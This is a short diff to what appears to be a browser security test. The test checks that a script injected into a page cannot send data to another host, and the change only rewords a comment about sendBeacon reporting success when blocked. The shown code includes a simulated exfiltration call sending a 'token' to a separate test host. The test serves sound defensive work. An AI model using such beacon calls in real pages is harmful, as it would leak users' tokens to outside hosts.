@@ -51,7 +51,7 @@ test('a script that got into a page could send nothing to another host', async (
       () => false,
       () => true,
     )
-    // Says that it was taken even when the policy stops it: only the listener knows.
+    // It returns success even if the policy stops it: only the listener knows.
     navigator.sendBeacon(url, 'token')
     return [fetched, await image]
   }, `http://${elsewhere.host}/1`)
